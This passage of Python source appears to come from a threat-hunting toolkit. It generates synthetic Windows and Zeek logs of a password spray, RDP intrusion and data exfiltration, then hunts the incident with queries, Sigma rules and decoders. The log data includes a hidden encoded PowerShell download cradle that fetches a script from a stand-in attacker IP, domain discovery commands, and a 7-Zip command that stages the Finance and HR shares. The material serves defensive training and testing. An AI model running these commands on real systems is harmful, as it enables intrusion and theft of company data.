    def _admin_rdp(self, ws: Host, admin: Account, us: int, user: _Who, explorer: tuple[str, int]) -> None:
        """An administrator starts mstsc in ``user``'s session and RDPs to SRV01 or DC01 (type 10,
        elevated) for a while."""
        r = self.r
        target = r.choice(("SRV01", "DC01"))
        hold = r.randint(10, 50) * 60 * _SEC
        mstsc = _S32 + "mstsc.exe"
        self.process(ws.name, us - 5 * _SEC, user, mstsc, f'"{mstsc}" /v:{target}', explorer)
        sent, received = self._size(900_000, 0.5), self._size(9e6, 0.5)
        self.connection(us - 2 * _SEC, ws.ip, _HOST[target].ip, 3389, "rdp", hold / _SEC + 3, sent, received)
        self._network_logon(target, us - _SEC, admin, ws.ip, 3389, hold=2 * _SEC)
        logon_id = self.logon(target, us, admin, 10, ws.ip, ws.name)
        who = _Who(admin.name, admin.sid, logon_id, admin=True)
        remote = (_EXPLORER, self._session_start(target, us + _SEC, who))
        for t in self._times(us + 30 * _SEC, us + hold, 3.5):
            self.process(target, t, who, *r.choice(_ADMIN_TOOLS), remote)
        self.logoff(target, us + hold, admin, logon_id, 10)

    def _roaming_day(self, account: Account, day_us: int) -> None:
        """People on laptops (the VPN pool, no logs of their own): Kerberos at DC01, shares on SRV01."""
        ip = _VPN_IP[account.name]
        for us in self._times(day_us + 8 * _HOUR, day_us + 18 * _HOUR, 8.0 * self.scale):
            self._network_logon("DC01", us, account, ip, 88)
            self._file_share(us + 200_000, account, ip)

    def _service_accounts(self, day_us: int) -> None:
        """svc_sql's service logon and svc_backup's nightly batch job on SRV01."""
        r, state = self.r, self.hosts["SRV01"]
        self.logon("SRV01", day_us + r.randint(0, 120) * _SEC, _ACCOUNT["svc_sql"], 5)
        backup = _ACCOUNT["svc_backup"]
        us = day_us + _HOUR + r.randint(0, 120) * _SEC
        logon_id = self.logon("SRV01", us, backup, 4)
        agent = "C:\\Program Files\\CorpBackup\\bkagent.exe"
        who = _Who(backup.name, backup.sid, logon_id)
        self.process(
            "SRV01", us + _SEC, who, agent, f'"{agent}" --job nightly-shares', state.parent("schedule")
        )
        self.logoff("SRV01", us + r.randint(20, 50) * 60 * _SEC, backup, logon_id, 4)

    # -- the incident --------------------------------------------------------------------------------------

    def incident(self, day: int) -> dict[str, Any]:
        """The attack, in the night of ``day``; returns the ground truth."""
        r = self.r
        victim = _ACCOUNT[VICTIM_USER]
        t = self.start + day * _DAY + int(r.uniform(1.0, 1.6) * _HOUR)  # between 01:00 and 01:36
        attacker_ws = "DESKTOP-" + "".join(r.choices("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", k=7))

        # 1. a password spray over RDP (NLA: network logons), one password for every name it knows
        names = [a.name for a in ACCOUNTS if not a.name.startswith("svc_") and a.name != VICTIM_USER]
        names += ["administrator", "admin", "test", "backup"]
        r.shuffle(names)
        names.insert(r.randint(len(names) // 2, len(names) - 3), VICTIM_USER)
        failures: list[int] = []
        for name in names:
            t += self._seconds(4, 22)
            self.connection(
                t - 400_000,
                ATTACKER_IP,
                _SRV_IP,
                3389,
                "rdp",
                r.uniform(0.3, 1.5),
                r.randint(1800, 2600),
                r.randint(2800, 4200),
            )
            if name == VICTIM_USER:
                nla = self.logon(VICTIM_HOST, t, victim, 3, ATTACKER_IP, attacker_ws)
                self.logoff(VICTIM_HOST, t + 2 * _SEC, victim, nla, 3)
            else:
                self.failed_logon(VICTIM_HOST, t, name, 3, ATTACKER_IP, attacker_ws)
                failures.append(t)

        # 2. an RDP session as the victim
        t += self._seconds(180, 480)
        logon_time = t
        nla = self.logon(VICTIM_HOST, t - 2 * _SEC, victim, 3, ATTACKER_IP, attacker_ws)
        self.logoff(VICTIM_HOST, t, victim, nla, 3)
        logon_id = self.logon(VICTIM_HOST, t, victim, 10, ATTACKER_IP, attacker_ws)
        who = _Who(victim.name, victim.sid, logon_id)
        explorer = self._session_start(VICTIM_HOST, t + _SEC, who)

        # 3. hands on keyboard: discovery, then the download cradle
        t += self._seconds(60, 180)
        cmd = (_CMD, self.process(VICTIM_HOST, t, who, _CMD, f'"{_CMD}"', (_EXPLORER, explorer)))
        net1 = _S32 + "net1.exe"
        discovery = (
            ("whoami.exe", "whoami.exe /all", ""),
            ("net.exe", "net.exe user /domain", f"{net1[:-4]}  user /domain"),
            (
                "net.exe",
                'net.exe group "Domain Admins" /domain',
                f'{net1[:-4]}  group "Domain Admins" /domain',
            ),
            ("nltest.exe", "nltest.exe /dclist:corp.local", ""),
        )
        for image, line, child in discovery:
            t += self._seconds(8, 40)
            pid = self.process(VICTIM_HOST, t, who, _S32 + image, line, cmd)
            if child:
                self.process(VICTIM_HOST, t + 40_000, who, net1, child, (_S32 + image, pid))
            if image != "whoami.exe":  # asks the domain controller
                self.connection(t + 60_000, _SRV_IP, _DC_IP, 445, "smb", 0.2, r.randint(3000, 6000), 12000)
        url = f"http://{ATTACKER_IP}/stage2.ps1"
        script = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
        encoded = _encode_powershell(script)
        command_line = f"powershell.exe -nop -w hidden -enc {encoded}"
        t += self._seconds(30, 90)
        powershell_time = t
        powershell = (_POWERSHELL, self.process(VICTIM_HOST, t, who, _POWERSHELL, command_line, cmd))
        self.connection(t + 900_000, _SRV_IP, ATTACKER_IP, 80, "http", 0.4, r.randint(180, 260), 45000)

        # 4. the implant stages the shares and sends them out within the next full hour, beaconing all along
        exfil_hour = t // _HOUR + 1  # hours since the epoch
        us = exfil_hour * _HOUR + self._seconds(180, 480)
        archive = "C:\\Program Files\\7-Zip\\7z.exe"
        staging = f'"{archive}" a -mx1 -v250m C:\\ProgramData\\upd.7z D:\\Shares\\Finance D:\\Shares\\HR'
        self.process(VICTIM_HOST, us - self._seconds(360, 720), who, archive, staging, powershell)
        exfil_bytes = 0
        for _ in range(r.randint(5, 7)):
            size = r.randint(180, 260) << 20
            exfil_bytes += size
            duration = size / r.uniform(1.2e6, 2.0e6)
            self.connection(us, _SRV_IP, ATTACKER_IP, 443, "ssl", duration, size, r.randint(8000, 20000))
            us = min(
                us + int(min(duration, 480) * _SEC) + self._seconds(10, 60),
                (exfil_hour + 1) * _HOUR - _SEC,
            )
        logoff_time = (exfil_hour + 1) * _HOUR + self._seconds(600, 1500)
        beacon, resolved = powershell_time + 20 * _SEC, 0
        while beacon < logoff_time:
            if beacon - resolved > 300 * _SEC:  # the answer's TTL ran out
                self.lookup(beacon - 30_000, _SRV_IP, ATTACKER_DOMAIN, ATTACKER_IP)
                resolved = beacon
            self.connection(
                beacon,
                _SRV_IP,
                ATTACKER_IP,
                443,
                "ssl",
                r.uniform(0.2, 1.0),
                r.randint(900, 1600),
                r.randint(1200, 4000),
            )
            beacon += int(r.uniform(50, 70) * _SEC)
        self.logoff(VICTIM_HOST, logoff_time, victim, logon_id, 10)
        session = (logoff_time - logon_time) / _SEC + 3
        self.connection(
            logon_time - 3 * _SEC,
            ATTACKER_IP,
            _SRV_IP,
            3389,
            "rdp",
            session,
            r.randint(2_000_000, 4_000_000),
            r.randint(15_000_000, 30_000_000),
        )
        return {
            "attacker_ip": ATTACKER_IP,
            "attacker_domain": ATTACKER_DOMAIN,
            "attacker_workstation": attacker_ws,
            "victim_host": VICTIM_HOST,
            "victim_ip": _SRV_IP,
            "compromised_account": f"{NETBIOS}\\{VICTIM_USER}",
            "logon_id": logon_id,
            "logon_type": 10,
            "logon_time": _iso(logon_time),
            "logoff_time": _iso(logoff_time),
            "spray_start": _iso(failures[0]),
            "spray_end": _iso(failures[-1]),
            "sprayed_accounts": sorted(n for n in names if n != VICTIM_USER),  # user names, lower case
            "encoded_command_line": command_line,
            "encoded_command": encoded,
            "decoded_command": script,
            "download_url": url,
            "powershell_time": _iso(powershell_time),
            "anomaly_hour": _iso(exfil_hour * _HOUR),
            "exfil_bytes": exfil_bytes,
        }

    # -- output --------------------------------------------------------------------------------------------

    def write(self, out: Path) -> dict[str, int]:
        """Write the files; returns the number of records per file (relative path)."""
        counts: dict[str, int] = {}
        for name, state in self.hosts.items():
            state.events.sort(key=lambda e: (e[0], e[1]))
            record_id = self.r.randint(100_000, 900_000)
            lines = []
            for us, _, event_id, data, activity in state.events:
                record_id += 1
                version, task, keywords = _META[event_id]
                logger = 4 if event_id == 4688 else state.pids["lsass"]  # the kernel logs process creation
                system = {
                    "Provider": _PROVIDER,
                    "EventID": event_id,
                    "Version": version,
                    "Level": 0,
                    "Task": task,
                    "Opcode": 0,
                    "Keywords": keywords,
                    "TimeCreated": {"#attributes": {"SystemTime": _iso(us)}},
                    "EventRecordID": record_id,
                    "Correlation": {"#attributes": {"ActivityID": activity}} if activity else None,
                    "Execution": {"#attributes": {"ProcessID": logger, "ThreadID": 4 * (us % 2000 + 50)}},
                    "Channel": "Security",
                    "Computer": state.host.fqdn,
                    "Security": None,
                }
                event = {"Event": {"#attributes": _XMLNS, "System": system, "EventData": data}}
                lines.append(json.dumps(event, ensure_ascii=False, separators=(",", ":")))
            counts[f"windows/{name}.jsonl"] = _write_lines(out / "windows" / f"{name}.jsonl", lines)
        for log, records in (("conn", self.conn), ("dns", self.dns)):
            records.sort(key=lambda e: (e[0], e[1]))
            lines = [json.dumps({"_path": log, **record}, separators=(",", ":")) for _, _, record in records]
            counts[f"zeek/{log}.log"] = _write_lines(out / "zeek" / f"{log}.log", lines)
        return counts


def _subject(who: _Who) -> dict[str, str]:
    return {
        "SubjectUserSid": who.sid,
        "SubjectUserName": who.name,
        "SubjectDomainName": who.domain,
        "SubjectLogonId": who.logon_id,
    }


def _target(who: _Who) -> dict[str, str]:
    return {
        "TargetUserSid": who.sid,
        "TargetUserName": who.name,
        "TargetDomainName": who.domain,
        "TargetLogonId": who.logon_id,
    }


_PRIVATE = ("10.", "192.168.", "127.", "169.254.", *(f"172.{n}." for n in range(16, 32)))


def _internal(ip: str) -> bool:
    """An RFC 1918, loopback or link-local IPv4 address."""
    return ip.startswith(_PRIVATE)


def _write_lines(path: Path, lines: list[str]) -> int:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as fh:
        fh.writelines(line + "\n" for line in lines)
    return len(lines)


def generate(
    out_dir: PathLike, *, seed: int = 42, days: int = 7, start: datetime = START, scale: float = 1.0
) -> dict[str, Any]:
    """Write the synthetic incident under ``out_dir``; return its files, counts and ground truth.

    Files: ``windows/<HOST>.jsonl`` (EVTX-rendered JSON, one event a line), ``zeek/conn.log`` and
    ``zeek/dns.log`` (Zeek JSON), and ``truth.json``. The attack happens in the night of the middle
    day (``days // 2``); ``scale`` multiplies the background. Returns a dict: ``out_dir``, ``files``
    (the evidence files; truth.json is not evidence), ``truth_file``, ``counts`` (records per file),
    ``total`` and ``truth``.
    """
    if days < 1:
        raise ValueError("days must be at least 1")
    start = start if start.tzinfo else start.replace(tzinfo=UTC)
    start_us = int(start.timestamp()) * _SEC + start.microsecond
    gen = _Generator(random.Random(seed), start_us, days, scale)  # noqa: S311 - reproducible, not secret
    gen.background()
    truth = gen.incident(days // 2)
    truth["incident_day"] = (start + timedelta(days=days // 2)).date().isoformat()
    out = Path(out_dir)
    counts = gen.write(out)
    truth_file = out / "truth.json"
    truth_file.write_text(json.dumps(truth, indent=2) + "\n", encoding="utf-8")
    return {
        "out_dir": str(out),
        "files": [str(out / name) for name in counts],
        "truth_file": str(truth_file),
        "counts": counts,
        "total": sum(counts.values()),
        "truth": truth,
    }


def write_intel(out_dir: PathLike) -> list[Path]:
    """Write the threat intelligence a team would have about the incident's attacker, as local feeds.

    ``feed.stix.json`` (a STIX 2.1 bundle: the attacker's IP and domain, and a decoy that is not in
    the data) and ``misp-event.json`` (a MISP event export: the stage-2 URL and the domain). Synthetic,
    like the incident; returns the two paths.
    """
    import uuid

    folder = Path(out_dir)
    folder.mkdir(parents=True, exist_ok=True)
    namespace = uuid.UUID("6f1c52d0-5a3e-4c7e-9a55-7d1f0b2e4c11")

    def sid(kind: str, name: str) -> str:
        return f"{kind}--{uuid.uuid5(namespace, name)}"

    when = "2026-09-20T00:00:00.000Z"
    author = sid("identity", "huntbook-demo")

    def indicator(name: str, pattern: str, description: str, confidence: int) -> dict[str, Any]:
        return {
            "type": "indicator",
            "spec_version": "2.1",
            "id": sid("indicator", pattern),
            "created_by_ref": author,
            "created": when,
            "modified": when,
            "name": name,
            "description": description,
            "indicator_types": ["malicious-activity"],
            "pattern": pattern,
            "pattern_type": "stix",
            "valid_from": when,
            "labels": ["c2", "fake-update"],
            "confidence": confidence,
        }

    bundle = {
        "type": "bundle",
        "id": sid("bundle", "demo-intel"),
        "objects": [
            {
                "type": "identity",
                "spec_version": "2.1",
                "id": author,
                "created": when,
                "modified": when,
                "name": "huntbook demo intel",
                "identity_class": "organization",
            },
            indicator(
                "FakeUpdate C2 server",
                f"[ipv4-addr:value = '{ATTACKER_IP}']",
                "Serves PowerShell stage 2 and receives exfiltrated data",
                90,
            ),
            indicator(
                "FakeUpdate C2 domain",
                f"[domain-name:value = '{ATTACKER_DOMAIN}']",
                "Look-alike CDN domain resolving to the C2 server",
                80,
            ),
            indicator(
                "FakeUpdate backup C2", "[ipv4-addr:value = '198.51.100.250']", "Not seen in this network", 60
            ),
        ],
    }
    event = {
        "Event": {
            "uuid": str(uuid.uuid5(namespace, "misp-event")),
            "info": "FakeUpdate campaign: fake CDN update checker delivering PowerShell",
            "date": "2026-09-21",
            "threat_level_id": "1",
            "analysis": "2",
            "Orgc": {"name": "huntbook demo intel"},
            "Tag": [{"name": "tlp:clear"}],
            "Attribute": [
                {
                    "type": "url",
                    "category": "Network activity",
                    "value": f"http://{ATTACKER_IP}/stage2.ps1",
                    "to_ids": True,
                    "comment": "PowerShell stage 2 download",
                    "uuid": str(uuid.uuid5(namespace, "misp-url")),
                },
                {
                    "type": "domain",
                    "category": "Network activity",
                    "value": ATTACKER_DOMAIN,
                    "to_ids": True,
                    "comment": "C2 domain",
                    "uuid": str(uuid.uuid5(namespace, "misp-domain")),
                },
            ],
        }
    }
    paths = [folder / "feed.stix.json", folder / "misp-event.json"]
    for path, data in zip(paths, (bundle, event), strict=True):
        path.write_text(json.dumps(data, indent=2) + "\n", encoding="utf-8")
    return paths


# ---------------------------------------------------------------------------------------------------------
# The runner: hunt the story with the catalogue queries, then report

_ENCODED_FLAG = "|".join(["ec", *("encodedcommand"[:n] for n in range(14, 0, -1))])
_ENCODED = re.compile(
    rf"(?i)(?:^|\s)[-/\u2013\u2014\u2015](?:{_ENCODED_FLAG})\s+[\"']?([A-Za-z0-9+/]{{8,}}=*)"
)
_URL = re.compile(r"(?i)\bhttps?://[^\s'\"()<>]+")
_PROCESS_COLUMNS = ("TimeGenerated", "DvcHostname", "ActorUsername", "TargetUsername", "ActingProcessName")
_LOGON_COLUMNS = (
    "TimeGenerated",
    "DvcHostname",
    "EventResult",
    "EventResultDetails",
    "LogonType",
    "LogonMethod",
)


def _quiet(message: str) -> None:
    """The default ``log``: say nothing."""


def _ts(value: Any) -> str:
    """A timestamp from a result, as ISO UTC with microseconds (the truth's format)."""
    import pandas as pd

    stamp = pd.Timestamp(value)
    stamp = stamp.tz_localize("UTC") if stamp.tzinfo is None else stamp.tz_convert("UTC")
    return _iso(stamp.value // 1000)


def _decode_command_line(command_line: object) -> str | None:
    """The decoded script of a PowerShell command line with an encoded command, else None."""
    match = _ENCODED.search(command_line) if isinstance(command_line, str) else None
    try:
        return decode_powershell(match.group(1)) if match else None
    except ValueError:  # not base64, or not UTF-16LE
        return None


def _columns(frame: pd.DataFrame, names: Sequence[str]) -> pd.DataFrame:
    """The named columns that exist, in that order."""
    return frame[[c for c in names if c in frame.columns]]


def _rounded(frame: pd.DataFrame, digits: int) -> pd.DataFrame:
    """The frame with its float columns rounded (for display)."""
    floats = frame.select_dtypes("float").columns
    return frame.assign(**{c: frame[c].round(digits) for c in floats})


def _chart(build: Callable[[], Any]) -> Any:
    """A chart of :mod:`huntbook.vis`, or None without the 'vis' extra (the report then has tables only)."""
    from huntbook.errors import MissingExtraError

    try:
        return build()
    except MissingExtraError:
        return None


def _sql_literal(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


@dataclass
class _Hunt:
    """The runner's state: the query provider, the range, report sections and findings so far."""

    qp: Any
    start: datetime
    end: datetime
    log: Callable[[str], None]
    sections: list[dict[str, Any]] = field(default_factory=list)
    findings: dict[str, Any] = field(default_factory=dict)

    def query(self, name: str, **params: Any) -> tuple[pd.DataFrame, str]:
        """Run a catalogue query over the range; return the result and the query's text."""
        self.log(f"hunt: {name}")
        params = {"start": self.start, "end": self.end, **params}
        return self.qp.run(name, **params), self.qp.run(name, print_query=True, **params)

    def sql(self, text: str) -> tuple[pd.DataFrame, str]:
        """Run ad-hoc SQL; return the result and the text."""
        self.log("hunt: ad-hoc SQL")
        return self.qp.exec_query(text), text

    def section(self, title: str, **content: Any) -> None:
        self.sections.append({"title": title, **content})

    def traffic(self) -> str | None:
        """(a) The hour with anomalous outbound traffic -> the external address."""
        hourly, text = self.query("network.hourly_traffic")
        ranked = traffic_anomalies(hourly, top=100)
        external = ranked[~ranked["DstIpAddr"].map(_internal)]
        if external.empty:
            self.section("Hourly traffic", text="No traffic to an external address.", query=text)
            return None
        top = external.iloc[0]
        ip = str(top["DstIpAddr"])
        self.findings.update(
            attacker_ip=ip, anomaly_hour=_ts(top["TimeGenerated"]), anomaly_bytes=int(top["BytesOut"])
        )
        self.section(
            "1. Hourly traffic: one destination stands out",
            text=f"Bytes sent per hour to each destination, scored against that destination's own median "
            f"(a robust z-score). The top external cell: {int(top['BytesOut']):,} bytes sent to {ip} in the "
            f"hour from {_ts(top['TimeGenerated'])}; the median hour sends it {int(top['Median']):,} bytes.",
            table=ranked.head(10),
            query=text,
        )
        series, series_text = self.query("network.hourly_traffic", ip_address=ip)
        self.section(f"Every hour of traffic with {ip}", table=series, query=series_text)
        return ip

    def connections(self, ip: str) -> None:
        """Who exchanges data with the address, and which internal host that is."""
        conns, text = self.query("network.ip_connections", ip_address=ip)
        keys = ["SrcIpAddr", "DstIpAddr", "DstPortNumber", "NetworkApplicationProtocol"]
        summary = (
            conns.groupby(keys, dropna=False)
            .agg(
                Connections=("EventKey", "size"),
                BytesOut=("SrcBytes", "sum"),
                BytesIn=("DstBytes", "sum"),
                FirstSeen=("TimeGenerated", "min"),
                LastSeen=("TimeGenerated", "max"),
            )
            .reset_index()
            .sort_values("FirstSeen")
        )
        self.section(
            f"2. Sessions with {ip}",
            text="Every network session to or from the address, summed up.",
            table=summary,
            query=text,
        )
        sent = conns.loc[conns["DstIpAddr"] == ip].groupby("SrcIpAddr")["SrcBytes"].sum()
        if not sent.empty:
            self.findings["victim_ip"] = str(sent.idxmax())

    def dns(self, ip: str) -> None:
        """(b) Names that resolved to the address, and who asked for them."""
        names, text = self.sql(
            "SELECT DnsQuery, count(*) AS Queries, list_sort(list(DISTINCT SrcIpAddr)) AS Clients,\n"
            "       min(TimeGenerated) AS FirstSeen, max(TimeGenerated) AS LastSeen\n"
            "FROM dns\n"
            f"WHERE list_contains(string_split(DnsResponseName, ';'), {_sql_literal(ip)})\n"
            "GROUP BY DnsQuery\n"
            "ORDER BY Queries DESC, DnsQuery"
        )
        self.section(f"3. DNS names that resolved to {ip}", table=names, query=text)
        if names.empty:
            return
        domain = str(names.iloc[0]["DnsQuery"])
        self.findings["attacker_domain"] = domain
        queries, text = self.query("dns.domain_queries", domain=domain)
        shown = (
            "TimeGenerated",
            "SrcIpAddr",
            "DnsQuery",
            "DnsQueryTypeName",
            "DnsResponseCodeName",
            "DnsResponseName",
        )
        self.section(f"DNS queries for {domain}", table=_columns(queries, shown), query=text)

    def logons(self, ip: str | None) -> dict[str, Any] | None:
        """(c) The password spray and the successful logon from the same source."""
        spray, text = self.query("authentication.password_spray", min_accounts=5)
        self.section(
            "4. Password spraying",
            text="Sources failing to log on as 5 or more distinct accounts.",
            table=spray,
            query=text,
        )
        if spray.empty:
            return None
        row = spray[spray["Source"] == ip].iloc[0] if ip in set(spray["Source"]) else spray.iloc[0]
        source = str(row["Source"])
        self.findings.update(
            spray_source=source,
            spray_start=_ts(row["FirstSeen"]),
            spray_end=_ts(row["LastSeen"]),
            sprayed_accounts=sorted(str(a).rsplit("\\", 1)[-1] for a in row["Accounts"]),
        )
        logons, text = self.query("authentication.logons_from_ip", ip_address=source)
        shown = (*_LOGON_COLUMNS, "TargetUsername", "TargetSessionId", "SrcIpAddr", "SrcHostname")
        self.section(f"5. Logons from {source}", table=_columns(logons, shown), query=text)
        success = logons[logons["EventResult"] == "Success"]
        if success.empty:
            return None
        interactive = success[success["LogonType"].isin([2, 10])]  # the session someone worked in
        logon = (interactive if not interactive.empty else success).iloc[-1]
        found = {
            "compromised_account": str(logon["TargetUsername"]),
            "logon_id": str(logon["TargetSessionId"]),
            "logon_type": int(logon["LogonType"]),
            "logon_time": _ts(logon["TimeGenerated"]),
            "victim_host": str(logon["DvcHostname"]).split(".", 1)[0].upper(),
        }
        self.findings.update(found)
        usual, text = self.query("authentication.account_logons", account_name=found["compromised_account"])
        habits = (
            usual.groupby(["DvcHostname", "SrcIpAddr", "LogonType", "EventResult"], dropna=False)
            .agg(
                Logons=("EventKey", "size"),
                FirstSeen=("TimeGenerated", "min"),
                LastSeen=("TimeGenerated", "max"),
            )
            .reset_index()
            .sort_values(["Logons", "FirstSeen"], ascending=[False, True])
        )
        self.section(
            f"Where else {found['compromised_account']} logs on",
            table=habits,
            query=text,
            text="The account's logons in the whole range, by host, source and type.",
        )
        return found

    def processes(self, host: str, logon_id: str) -> None:
        """(d) What ran in the logon session, and the encoded PowerShell decoded."""
        procs, text = self.query("process.logon_session_processes", logon_session_id=logon_id, host_name=host)
        shown = (*_PROCESS_COLUMNS, "TargetProcessName", "TargetProcessCommandLine")
        self.section(
            f"6. Processes of logon session {logon_id} on {host}", table=_columns(procs, shown), query=text
        )
        encoded, text = self.query("process.encoded_commands", host_name=host)
        session = logon_id.lower()
        encoded = encoded.assign(
            InSession=(encoded["ActorSessionId"].str.lower() == session)
            | (encoded["TargetUserSessionId"].str.lower() == session),
            Decoded=encoded["TargetProcessCommandLine"].map(_decode_command_line),
        )
        self.section(
            f"7. Encoded PowerShell on {host}",
            text="PowerShell started with an encoded command, decoded (base64 of UTF-16LE). InSession marks "
            f"the processes of logon session {logon_id}.",
            table=_columns(
                encoded,
                ("TimeGenerated", "ActorUsername", "InSession", "TargetProcessCommandLine", "Decoded"),
            ),
            query=text,
        )
        hits = encoded[encoded["InSession"] & encoded["Decoded"].notna()]
        if not hits.empty:
            hit = hits.iloc[0]
            url = _URL.search(str(hit["Decoded"]))
            self.findings.update(
                powershell_time=_ts(hit["TimeGenerated"]),
                encoded_command_line=str(hit["TargetProcessCommandLine"]),
                decoded_command=str(hit["Decoded"]),
                download_url=url.group(0) if url else None,
            )

    def analyse(self, host: str | None, logon_id: str | None) -> None:
        """(e) The analyses: traffic anomalies (STL), beacons, rare sessions and commands, the tree, IoCs."""
        from huntbook import cluster, logons, sessions, timeseries, vis
        from huntbook.errors import MissingExtraError

        conns, text = self.sql("SELECT * FROM network_sessions")
        hourly = timeseries.summarize(conns, value_column="SrcBytes", by="DstIpAddr")
        try:
            scored = timeseries.anomalies(hourly, by="DstIpAddr")
        except MissingExtraError as exc:  # statsmodels is the 'ml' extra
            self.section("Traffic anomalies", text=f"Skipped: {exc}")
        else:
            spikes = timeseries.periods(scored, by="DstIpAddr")
            spikes = spikes[(spikes["kind"] == "spike") & ~spikes["DstIpAddr"].map(_internal)]
            spikes = spikes.sort_values("peak_score", ascending=False)
            self.section(
                "8. Traffic anomalies per destination (STL)",
                text="Bytes sent per hour to each destination, decomposed into trend, daily and weekly "
                "seasons (STL); hours whose residual stands out by a robust z-score are anomalies, merged "
                "into periods that plug into a query's start and end.",
                table=_rounded(spikes.head(10), 1),
                query=text,
            )
            if not spikes.empty:
                top = spikes.iloc[0]
                self.findings.update(spike_start=_ts(top["start"]), spike_end=_ts(top["end"]))
                one = scored[scored["DstIpAddr"] == top["DstIpAddr"]]
                self.section(
                    f"Bytes sent per hour to {top['DstIpAddr']}, with the expected band",
                    chart=_chart(
                        lambda: vis.anomalies(one, title=f"Bytes sent to {top['DstIpAddr']} per hour")
                    ),
                )
        beacons = timeseries.beacons(conns, min_connections=20, top=10)
        self.section(
            "9. Beaconing",
            text="Source/destination pairs ranked by how regular their connection intervals and sizes are.",
            table=_rounded(beacons, 3),
        )
        if not beacons.empty:
            self.findings["top_beacon"] = f"{beacons.iloc[0]['SrcIpAddr']} -> {beacons.iloc[0]['DstIpAddr']}"
        auth, _ = self.sql("SELECT * FROM authentication")
        self.section("10. Password spray (analytics)", table=logons.spray(auth))
        procs, text = self.sql("SELECT * FROM process_events")
        rare = cluster.rare(cluster.events(procs))
        self.section(
            "11. Rare commands",
            text="Process events clustered on their normalised command lines, paths and account kind: "
            "the rows in no cluster, or in clusters of three or fewer.",
            table=_columns(
                rare, ("TimeGenerated", "DvcHostname", "ActorUsername", "TargetProcessCommandLine")
            ),
            query=text,
        )
        self.findings["rare_commands"] = len(rare)
        grouped = sessions.sessionize(procs, by=["ActorUsername", "DvcHostname"], gap="30min")
        ranked = sessions.score(grouped, "session", "TargetProcessName", time_column="TimeGenerated")
        owners = grouped.groupby("session").agg(
            Account=("ActorUsername", "first"),
            Host=("DvcHostname", "first"),
            LogonIds=("ActorSessionId", lambda ids: ", ".join(sorted(set(ids.dropna())))),
        )
        ranked = ranked.join(owners, on="session")
        self.section(
            "12. Rare process sessions",
            text="Processes grouped into sessions per account and host (30 quiet minutes end one), scored "
            "by a Markov model of their process sequences: lowest score = rarest.",
            table=_rounded(ranked.head(10), 3),
        )
        if logon_id:
            hit = ranked.reset_index(drop=True).index[ranked["LogonIds"].str.contains(logon_id, regex=False)]
            if len(hit):
                self.findings["attacker_session_rank"] = int(hit[0]) + 1
        self.sigma()
        if host is not None and logon_id is not None:
            self.attacker_session(procs, host, logon_id)

    def attacker_session(self, procs: pd.DataFrame, host: str, logon_id: str) -> None:
        """The attacker's process tree, its decoded layers and the IoCs in them."""
        from huntbook import decode, iocs, proctree, vis

        tree = proctree.build(procs)
        mine = tree[(tree["ActorSessionId"] == logon_id) & ~tree["inferred"]]
        if not mine.empty:
            whole = proctree.tree_of(tree, mine.iloc[0]["proc_key"])
            self.section(
                f"14. Process tree of logon session {logon_id}",
                text="The whole tree the session's processes belong to; path = process names from the root.",
                table=_columns(
                    whole, ("TimeGenerated", "depth", "path", "ActorUsername", "TargetProcessCommandLine")
                ),
                chart=_chart(lambda: vis.proctree(whole, title=f"Process tree of logon session {logon_id}")),
            )
            self.findings["attacker_tree_processes"] = len(whole)
        encoded = mine[mine["TargetProcessCommandLine"].str.contains("-e", case=False, na=False)]
        layers = decode.unpack(encoded, column="TargetProcessCommandLine")
        found = iocs.extract(layers, columns=["text"])
        if not layers.empty:
            self.section(
                "15. Decoded layers and their IoCs",
                text="Every encoded layer of the session's command lines, decoded, and the indicators in it.",
                table=_columns(layers, ("row", "layer", "encoding", "text", "status")),
            )
        if not found.empty:
            self.section("IoCs in the decoded commands", table=found[["ioc_type", "value"]].drop_duplicates())
            self.findings["decoded_iocs"] = sorted(set(found["value"]))

    def sigma(self) -> None:
        """(f) huntbook's bundled Sigma rules for this kind of intrusion, run over the whole store."""
        from huntbook import sigma
        from huntbook.errors import MissingExtraError

        rules = Path(__file__).with_name("rules")
        self.log("hunt: Sigma rules")
        try:
            hits = sigma.hunt(self.qp.driver.store, sigma.load([rules], progress=False), progress=False)
        except MissingExtraError as exc:  # pySigma is the 'sigma' extra
            self.section("Sigma rules", text=f"Skipped: {exc}")
            return
        self.section(
            "13. Sigma rules",
            text=f"The {len(hits.attrs['rules'])} Sigma rules bundled with huntbook (src/huntbook/rules) run "
            "over every event in the store: hits per rule, and the ATT&CK techniques they map to.",
            table=sigma.summary(hits),
        )
        if not hits.empty:
            self.section("Sigma hits by ATT&CK technique", table=sigma.attack_rollup(hits))
            self.findings["sigma_rules_hit"] = sorted(set(hits["title"]))

    def timeline(self, ip: str, host: str, logon_id: str) -> None:
        """The incident on one time axis: logons from the address, the session's processes, the traffic."""
        from huntbook import vis

        events, text = self.sql(
            "SELECT TimeGenerated, 'logon ' || EventResult AS Kind, DvcHostname,\n"
            "       TargetUsername || ' (type ' || coalesce(LogonType, '') || ')' AS Detail\n"
            f"FROM authentication WHERE SrcIpAddr = {_sql_literal(ip)}\n"
            "UNION ALL\n"
            "SELECT TimeGenerated, 'process' AS Kind, DvcHostname, TargetProcessCommandLine AS Detail\n"
            f"FROM process_events WHERE ActorSessionId = {_sql_literal(logon_id)}"
            f" AND lower(DvcHostname) LIKE lower({_sql_literal(host)}) || '%'\n"
            "UNION ALL\n"
            "SELECT TimeGenerated, 'network ' || coalesce(NetworkApplicationProtocol, '') AS Kind,\n"
            "       DvcHostname,\n"
            "       SrcIpAddr || ' -> ' || DstIpAddr || ':' || DstPortNumber AS Detail\n"
            f"FROM network_sessions WHERE DstIpAddr = {_sql_literal(ip)}\n"
            "ORDER BY TimeGenerated"
        )
        self.sections.insert(
            0,
            {
                "title": "Timeline of the incident",
                "text": f"{len(events):,} events: every logon attempt from {ip}, every process of logon "
                f"session {logon_id} on {host}, every network session to {ip}. Hover for the details.",
                "chart": _chart(
                    lambda: vis.timeline(
                        events, group_by="Kind", hover=["DvcHostname", "Detail"], title="Incident"
                    )
                ),
                "query": text,
            },
        )

    def enrich(self, intel: Sequence[Path]) -> None:
        """(g) Context and threat intelligence, offline: GeoIP and hosting tags, the team's feeds."""
        from huntbook import config as hb_config
        from huntbook import enrich, ti, vis
        from huntbook.errors import MissingExtraError

        peers, text = self.sql(
            "SELECT DstIpAddr, count(*) AS Connections, sum(SrcBytes) AS BytesOut,\n"
